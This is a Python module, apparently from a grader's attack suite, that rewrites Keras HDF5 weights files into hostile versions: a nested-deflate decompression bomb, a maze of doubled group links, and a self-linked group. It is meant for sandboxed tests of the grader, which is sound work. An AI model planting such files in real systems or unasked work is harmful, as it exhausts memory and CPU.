"""Weights files and models that make the grader's own work large, built from an honest save.

Each function takes a weights file as Keras saved it (`src`) and writes a hostile one
(`dst`) that still holds the same numbers, so everything but the bomb is the honest
answer's. They use only h5py, NumPy and zlib: the attack suite's notebooks run them
inside the sandbox (their source is pasted into the answer cell), and
bench/bench_bombs.py runs them on the host to measure what the grader pays.
"""

import zlib


def _deflated(head: bytes, total: int, layers: int) -> bytes:
    """A zlib stream of `head` then zeros up to `total` bytes, deflated again `layers - 1`
    times; the zeros cost the builder next to nothing (one compressed megabyte, repeated)."""
    mib = 2**20
    packer = zlib.compressobj(9)
    body = (packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH))[2:]  # its zlib header is written once, below
    zeros = total - len(head)
    block = zlib.compressobj(9)
    block.compress(b"\0")  # any state: after a full flush the stream forgets it
    block.flush(zlib.Z_FULL_FLUSH)
    one = block.compress(bytes(mib)) + block.flush(zlib.Z_FULL_FLUSH)
    check = zlib.adler32(head)
    parts = [body]
    for _ in range(zeros // mib):
        parts.append(one)
        check = zlib.adler32(bytes(mib), check)
    rest = bytes(zeros % mib)
    tail = zlib.compressobj(9)
    tail.compress(b"\0")
    tail.flush(zlib.Z_FULL_FLUSH)
    parts.append(tail.compress(rest) + tail.flush(zlib.Z_FULL_FLUSH))
    check = zlib.adler32(rest, check)
    raw = b"".join(parts) + b"\x03\x00"  # an empty final block ends the deflate stream
    stream = b"\x78\xda" + raw + check.to_bytes(4, "big")
    for _ in range(layers - 1):
        stream = zlib.compress(stream, 9)
    return stream


def chunk_bomb(src: str, dst: str, chunk_bytes: int = 2**28, layers: int = 2) -> None:
    """Every array as one chunk of `chunk_bytes` (its own numbers, then zeros past its end:
    the chunk is far larger than the array), deflated `layers` times."""
    import h5py
    import numpy as np

    with h5py.File(src, "r") as plain, h5py.File(dst, "w") as out:
        def copy(name, item):
            if isinstance(item, h5py.Group):
                out.require_group(name)
                return
            data = np.asarray(item[()])
            if data.ndim == 0:
                out[name] = data
                return
            row = int(np.prod(data.shape[1:], dtype=np.int64)) * data.itemsize
            rows = max(data.shape[0], chunk_bytes // max(row, 1))
            plist = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
            plist.set_chunk((rows, *data.shape[1:]))
            for _ in range(layers):
                plist.set_deflate(9)
            space = h5py.h5s.create_simple(data.shape, (h5py.h5s.UNLIMITED, *data.shape[1:]))
            made = h5py.h5d.create(out.id, name.encode(), h5py.h5t.py_create(data.dtype), space, dcpl=plist)
            made.write_direct_chunk((0,) * data.ndim, _deflated(data.tobytes(), rows * row, layers))

        plain.visititems(copy)


def link_maze(src: str, dst: str, depth: int = 24) -> None:
    """The honest file plus a chain of `depth` groups, each linked twice to the next: 2**depth
    paths to the last one, in a few kilobytes."""
    import shutil

    import h5py

    shutil.copyfile(src, dst)
    with h5py.File(dst, "a") as out:
        groups = [out.create_group(f"maze/{level}") for level in range(depth)]
        for here, after in zip(groups, groups[1:]):
            here["left"] = after
            here["right"] = after


def self_linked(src: str, dst: str) -> None:
    """The honest file plus a group that holds a hard link to itself."""
    import shutil

    import h5py

    shutil.copyfile(src, dst)
    with h5py.File(dst, "a") as out:
        loop = out.create_group("loop")
        loop["again"] = loop
